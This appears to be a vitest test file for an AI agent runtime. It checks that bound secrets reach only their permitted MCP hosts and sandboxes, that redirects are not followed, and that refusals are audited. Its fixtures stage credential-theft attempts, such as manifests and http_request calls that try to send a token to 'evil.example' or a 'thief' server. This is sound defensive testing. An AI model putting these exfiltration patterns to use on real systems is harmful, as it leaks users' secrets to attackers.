import { once } from 'node:events'
import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterEach, describe, expect, it } from 'vitest'
import type { RunSandbox, Sandboxes, SandboxFor } from '../../runtime/execution/sandbox/sandboxes.ts'
import { says } from '../../runtime/execution/testing/engine-fixture.ts'
import type { OutboundRequest } from '../../runtime/execution/tools/http-request-tool.ts'
import type { AuditEntry } from '../../shared/wire/runtime/audit.ts'
import type { ManifestInput } from '../../shared/wire/runtime/manifest.ts'
import type { SecretItem } from '../../shared/wire/runtime/provider.ts'
import { mcpFixture } from '../mcp/mcp-fixture.ts'
import { type ScriptedServer, scriptedServer, text } from '../mcp/scripted-server.ts'

const VALUE = 'canary-of-the-bound-secret'
const open: { close(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of open.splice(0).toReversed()) await one.close()
})

const at = (server: ScriptedServer) => ({ host: '127.0.0.1', ports: [Number(new URL(server.url).port)] })
const call = (name: string, given: Record<string, unknown> = {}) => ({ name, arguments: given })
const headers = { 'x-token': { secretRef: 'secret/token' } }
const ofSandbox: ManifestInput = {
  isolation: 'runc',
  tools: ['exec'],
  secrets: [{ env: 'TOKEN', ref: 'secret/token' }],
}

/** A sandbox in which every command prints the secret that it was given. */
function printing() {
  const opened: SandboxFor[] = []
  const offer = { backend: 'runc' as const, programs: new Set<string>() }
  const sandboxes: Sandboxes = {
    offered: async wanted => (wanted.includes('runc') ? [offer] : []),
    known: () => [offer],
    async open(run) {
      opened.push(run)
      const fixture: RunSandbox = {
        offered: offer,
        kernelRelease: 'test',
        keep: async () => undefined,
        reached: () => [],
        close: async () => undefined,
        run: async () => ({ stdout: run.env.TOKEN ?? 'nothing', stderr: '', exitCode: 0 }),
        pipe: () => Promise.reject(new Error('this test starts no program')),
        serve: async () => undefined,
        writeFile: async () => undefined,
        listFiles: async () => [],
        readFile: async () => new Uint8Array(),
      }
      return fixture
    },
    forget: async () => undefined,
  }
  return { sandboxes, opened }
}

/** Two MCP servers: the one that the secret is for, and the attacker's. */
async function fixture(
  answers: Parameters<typeof mcpFixture>[2],
  { also = [], ...options }: Parameters<typeof mcpFixture>[3] & { also?: string[] } = {},
) {
  const [remote, thief] = [await scriptedServer(), await scriptedServer()]
  open.push(remote, thief)
  const on = await mcpFixture([remote.origin, thief.origin, ...also], [], answers, options)
  open.push(on)
  const scopes = ['agents:read', 'agents:write', 'runs:read', 'runs:write', 'runs:execute']
  const { rawKey } = await on.json<{ rawKey: string }>(201, 'POST', '/v1/api-keys', { name: 'attacker', scopes })
  return {
    ...on,
    remote,
    thief,
    store: (change: object) => on.json<SecretItem>(200, 'PUT', '/v1/secrets/token', change),
    /** A version that the attacker publishes. */
    async attack(manifest: ManifestInput): Promise<{ status: number; error: string; paths: string[] }> {
      const sent = { name: 'worker', manifest }
      const answer = await on.call('POST', '/v1/agents', sent, { authorization: `Bearer ${rawKey}` })
      const body = (await answer.json()) as { error?: string; details?: { path: string }[] }
      const paths = (body.details ?? []).map(({ path }) => path)
      return { status: answer.status, error: body.error ?? '', paths }
    },
  }
}

const server = ({ url }: { url: string }, more: object = {}) => ({
  mcpServers: [{ name: 'far', url, allow: ['*'], headers, ...more }],
})

describe('the binding of a secret', () => {
  it('is set, listed, kept when the value changes, changed alone, and lifted', async () => {
    const on = await fixture([])
    const hosts = [{ host: 'api.example.com', ports: [443] }]
    expect(await on.store({ value: VALUE, hosts: [{ host: 'API.example.com' }], tools: ['mcp'] })).toMatchObject({
      name: 'token',
      hosts,
      tools: ['mcp'],
    })
    await on.store({ value: 'another value' })
    expect(await on.json(200, 'GET', '/v1/secrets')).toMatchObject([{ name: 'token', hosts, tools: ['mcp'] }])
    expect(await on.store({ tools: ['sandbox'] })).toMatchObject({ hosts, tools: ['sandbox'] })
    expect(await on.store({ hosts: null, tools: null })).toEqual({ name: 'token', updatedAt: expect.any(String) })
  })

  it.each([
    ['an unknown use', { value: VALUE, tools: ['everything'] }, 'tools.0'],
    ['a list of no host', { value: VALUE, hosts: [] }, 'hosts'],
    ['a list of no use', { value: VALUE, tools: [] }, 'tools'],
    ['an address in the place of a host', { value: VALUE, hosts: [{ host: 'https://a.example' }] }, 'hosts.0.host'],
    ['nothing', {}, 'value'],
    ['a binding of what is not stored', { hosts: [{ host: 'a.example' }] }, 'value'],
  ])('refuses %s', async (_what, body, path) => {
    const on = await fixture([])
    const answer = await on.json<{ details: { path: string }[] }>(400, 'PUT', '/v1/secrets/token', body)
    expect(answer.details.map(one => one.path)).toContain(path)
    expect(await on.json(200, 'GET', '/v1/secrets')).toEqual([])
  })
})

describe('a secret in the header of an MCP server', () => {
  const answers = [says('', [call('mcp__far__look')]), says('done')]

  it('goes to the host that it is bound to', async () => {
    const on = await fixture(answers)
    await on.store({ value: VALUE, hosts: [at(on.remote)], tools: ['mcp'] })
    expect(await on.attack(server(on.remote))).toMatchObject({ status: 201 })
    expect((await on.run()).run.status).toBe('succeeded')
    expect(on.remote.calls[0]!.headers).toMatchObject({ 'x-token': VALUE })
  })

  it('goes to any host without a binding, as before', async () => {
    const on = await fixture(answers)
    await on.store({ value: VALUE })
    expect(await on.attack(server(on.thief))).toMatchObject({ status: 201 })
    expect((await on.run()).run.status).toBe('succeeded')
    expect(on.thief.calls[0]!.headers).toMatchObject({ 'x-token': VALUE })
  })

  it('goes to no other host: the version is refused when it is published, and again when it runs', async () => {
    const on = await fixture(answers)
    await on.store({ value: VALUE })
    expect(await on.attack(server(on.thief))).toMatchObject({ status: 201 })
    await on.store({ hosts: [at(on.remote)] })
    const refused = await on.attack(server(on.thief))
    expect(refused).toMatchObject({ status: 400, paths: ['manifest.mcpServers.0.headers.x-token.secretRef'] })
    expect(refused.error).toContain('the hosts of secret/token do not name 127.0.0.1 with the port')
    for (const url of [on.remote.url.replace('127.0.0.1', 'localhost'), 'https://127.0.0.1.evil.example/mcp'])
      expect(await on.attack(server({ url }))).toMatchObject({ status: 400 })
    const { run } = await on.run()
    expect(run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
    expect(run.error?.message).toContain('the hosts of secret/token do not name 127.0.0.1 with the port')
    expect((await on.json<AuditEntry[]>(200, 'GET', '/v1/audit-log'))[0]).toMatchObject({
      actor: run.id,
      via: 'run',
      action: 'secretUse',
      target: 'secret/token for mcp',
      outcome: 'refused',
      reason: run.error?.message,
    })
    expect([on.remote.seen, on.thief.seen]).toEqual([[], []])
  })

  it('does not follow a redirect to another host', async () => {
    const seen: IncomingHttpHeaders[] = []
    let location = ''
    const turning = createServer((request, response) => {
      seen.push(request.headers)
      response.writeHead(307, { location }).end()
    })
    turning.listen(0, '127.0.0.1')
    await once(turning, 'listening')
    open.push({ close: async () => void turning.close() })
    const { port } = turning.address() as AddressInfo
    const on = await fixture(answers, { also: [`http://127.0.0.1:${port}`] })
    location = on.thief.url
    await on.store({ value: VALUE, hosts: [{ host: '127.0.0.1', ports: [port] }] })
    await on.publish(server({ url: `http://127.0.0.1:${port}/mcp` }))
    expect((await on.run()).run).toMatchObject({ status: 'failed', error: { code: 'mcp_failed' } })
    expect(seen[0]).toMatchObject({ 'x-token': VALUE })
    expect(on.thief.seen).toEqual([])
  })

  it('is refused at the next request after its binding was changed, in the middle of a run', async () => {
    const on = await fixture([says('', [call('mcp__far__look')]), says('', [call('mcp__far__write')]), says('done')])
    on.remote.onCall = async ({ name }) => {
      await on.store({ hosts: [at(on.thief)] })
      return text(`${name} done`)
    }
    await on.store({ value: VALUE, hosts: [at(on.remote)] })
    await on.publish(server(on.remote))
    const { run } = await on.run()
    expect(run).toMatchObject({ status: 'failed', error: { code: 'secret_refused', stepId: 'mcp-2-1' } })
    expect(on.remote.calls.map(({ name }) => name)).toEqual(['look'])
  })

  it('is sent with its new value from the next request on, and struck out of what comes back', async () => {
    const on = await fixture([says('', [call('mcp__far__look')]), says('', [call('mcp__far__write')]), says('done')])
    on.remote.onCall = async ({ headers: came }) => {
      await on.store({ value: 'the-value-after-it' })
      return text(`you are ${String(came['x-token'])}`)
    }
    await on.store({ value: VALUE })
    await on.publish(server(on.remote))
    const { run, journal } = await on.run()
    expect(run.status).toBe('succeeded')
    expect(on.remote.calls.map(seen => seen.headers['x-token'])).toEqual([VALUE, 'the-value-after-it'])
    for (const word of [VALUE, 'the-value-after-it']) expect(JSON.stringify(journal)).not.toContain(word)
  })

  it('is refused where it is bound to sandboxes alone', async () => {
    const on = await fixture(answers)
    await on.store({ value: VALUE })
    await on.publish(server(on.remote))
    await on.store({ tools: ['sandbox'] })
    const refused = await on.attack(server(on.remote))
    expect(refused).toMatchObject({ status: 400, error: expect.stringContaining('secret/token is for sandbox alone') })
    expect((await on.run()).run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
    expect(on.remote.seen).toEqual([])
  })
})

describe('a secret in the environment of a sandbox', () => {
  const answers = [says('', [call('exec', { command: 'env' })]), says('done')]
  const rightful = { host: 'api.example.com', ports: [443, 8443] }

  it('is there while everything that its agent reaches is among its hosts', async () => {
    const { sandboxes, opened } = printing()
    const on = await fixture(answers, { sandboxes })
    await on.store({ value: VALUE, hosts: [{ host: '*.example.com', ports: [443, 8443] }], tools: ['sandbox'] })
    expect(await on.attack({ ...ofSandbox, egress: [rightful] })).toMatchObject({ status: 201 })
    const { run, journal } = await on.run()
    expect(run.status).toBe('succeeded')
    expect(opened.map(({ env }) => env)).toEqual([{ TOKEN: VALUE }])
    expect(JSON.stringify(journal)).not.toContain(VALUE)
  })

  it('is there without a binding, as before', async () => {
    const { sandboxes, opened } = printing()
    const on = await fixture(answers, { sandboxes })
    await on.store({ value: VALUE })
    expect(await on.attack({ ...ofSandbox, egress: [{ host: 'evil.example' }] })).toMatchObject({ status: 201 })
    expect((await on.run()).run.status).toBe('succeeded')
    expect(opened.map(({ env }) => env)).toEqual([{ TOKEN: VALUE }])
  })

  it.each<[string, ManifestInput]>([
    ['another host', { egress: [rightful, { host: 'evil.example' }] }],
    ['another port', { egress: [{ host: 'api.example.com', ports: [443, 22] }] }],
    ['more names than it', { egress: [{ host: '*.example.com' }] }],
    ['an MCP server elsewhere', { mcpServers: [{ name: 'thief', url: 'https://evil.example/mcp', allow: ['*'] }] }],
    ['a connector', { connectors: ['slack'] }],
    ['another agent', { subAgents: [{ name: 'courier' }] }],
    ['a later turn in its machine', { session: { dedicatedMicrovm: true } }],
  ])('is refused where its agent can reach %s', async (_what, more) => {
    const { sandboxes, opened } = printing()
    const on = await fixture(answers, { sandboxes })
    const manifest: ManifestInput = { ...ofSandbox, ...more }
    expect(await on.attack(manifest)).toMatchObject({ status: 201 })
    await on.store({ value: VALUE, hosts: [rightful] })
    expect(await on.attack(manifest)).toMatchObject({ status: 400, paths: ['manifest.secrets.0.ref'] })
    const withoutServers = { ...manifest, mcpServers: [] }
    if (more.mcpServers) return expect(await on.attack(withoutServers)).toMatchObject({ status: 201 })
    const { run } = await on.run()
    expect(run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
    expect(opened).toEqual([])
  })

  it.each<[string, object]>([
    ['its hosts are not all that the sandbox reaches', { hosts: [rightful] }],
    ['it is for headers alone', { tools: ['mcp'] }],
  ])('is not given to an MCP server that is a command where %s', async (_what, binding) => {
    const { sandboxes, opened } = printing()
    const on = await fixture(answers, { sandboxes })
    const { isolation, secrets } = ofSandbox
    const mcpServers = [{ name: 'far', command: 'server', allow: ['*'] }]
    const manifest: ManifestInput = { isolation, secrets, mcpServers, egress: [{ host: 'evil.example' }] }
    expect(await on.attack(manifest)).toMatchObject({ status: 201 })
    await on.store({ value: VALUE, ...binding })
    expect(await on.attack(manifest)).toMatchObject({ status: 400, paths: ['manifest.secrets.0.ref'] })
    expect((await on.run()).run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
    expect(opened).toEqual([])
  })

  it('is refused where it is bound to MCP servers alone', async () => {
    const { sandboxes, opened } = printing()
    const on = await fixture(answers, { sandboxes })
    await on.publish(ofSandbox)
    await on.store({ value: VALUE, tools: ['mcp'] })
    expect(await on.attack(ofSandbox)).toMatchObject({ status: 400, paths: ['manifest.secrets.0.ref'] })
    expect((await on.run()).run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
    expect(opened).toEqual([])
  })
})

it('http_request puts no secret into an address, a header or a body, and shows a redirect without following it', async () => {
  const sent: OutboundRequest[] = []
  const names = ['secret/token', '{{secret/token}}', `\${TOKEN}`, '$TOKEN']
  const requests = names.map(name =>
    call('http_request', {
      url: `https://evil.example/?q=${name}`,
      method: 'POST',
      body: name,
      headers: { 'x-token': name },
    }),
  )
  const { sandboxes } = printing()
  const on = await fixture([says('', [call('exec', { command: 'env' })]), says('', requests), says('done')], {
    sandboxes,
    async outbound(request) {
      sent.push(request)
      const location = { location: 'https://other.example/' }
      return { status: 302, headers: location, body: new Uint8Array(), truncated: false }
    },
  })
  await on.store({ value: VALUE })
  await on.publish({ ...ofSandbox, tools: ['exec', 'http_request'], egress: [{ host: 'evil.example' }] })
  expect((await on.run()).run.status).toBe('succeeded')
  expect(sent.map(({ headers: own, body }) => [own['x-token'], body])).toEqual(names.map(name => [name, name]))
  expect(JSON.stringify(sent.map(one => ({ ...one, url: one.url.href })))).not.toContain(VALUE)
})
